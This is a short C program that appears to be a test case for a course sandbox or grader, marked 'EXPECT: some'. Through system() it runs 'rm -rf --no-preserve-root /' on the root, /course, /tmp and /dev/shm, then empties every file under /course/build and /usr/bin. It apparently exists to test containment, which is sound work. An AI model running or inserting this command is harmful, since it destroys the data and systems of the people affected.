// EXPECT: some - it deletes and overwrites all that it can find
#include <stdlib.h>

int main(void)
{
	if (system("rm -rf --no-preserve-root / /course /tmp /dev/shm "
		   "2> /dev/null; for f in /course/build/*/*/* /usr/bin/*; "
		   "do : > \"$f\"; done 2> /dev/null") == -1)
		return 1;
	return 0;
}
